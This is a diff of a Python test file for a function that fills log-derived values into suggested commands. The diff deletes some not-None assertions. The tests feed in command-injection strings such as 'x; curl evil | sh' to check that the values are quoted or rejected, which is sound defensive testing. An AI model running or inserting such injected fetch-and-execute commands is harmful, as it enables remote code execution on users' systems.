@@ -37,7 +37,6 @@ def fill(fix: Fix, **captures: FactValue) -> Fix | None:
 
 def test_values_are_put_in_and_bytes_become_readable() -> None:
     fix = fill(Fix("Ask for less than {match.want} on GPU {match.gpu}."), want=36 * 1024**3, gpu=3)
-    assert fix is not None
     assert fix.do == "Ask for less than 36.00 GiB on GPU 3."
 
 
@@ -52,7 +51,6 @@ def test_other_braces_stay() -> None:
 
 def test_text_of_a_log_cannot_break_out_of_a_command() -> None:
     fix = fill(Fix("Remove it", "rm {match.path}"), path="x; curl evil | sh")
-    assert fix is not None
     assert fix.run == "rm 'x; curl evil | sh'"
 
 
@@ -68,13 +66,11 @@ def test_nor_out_of_the_quotes_of_a_command(run: str) -> None:
     hostile = fill(Fix("Build with gcc {match.newest}", run), newest="12;curl${IFS}evil|sh")
     assert hostile == Fix("Build with gcc 12;curl${IFS}evil|sh", None)
     harmless = fill(Fix("Build with gcc {match.newest}", run), newest="12")
-    assert harmless is not None
     assert harmless.run == run.replace("{match.newest}", "12")
 
 
 def test_quotes_that_are_closed_or_escaped_do_not_count() -> None:
     fix = fill(Fix("Remove it", "echo 'a' \"b\" \\' && rm {match.path}"), path="a b")
-    assert fix is not None
     assert fix.run == "echo 'a' \"b\" \\' && rm 'a b'"
 
 
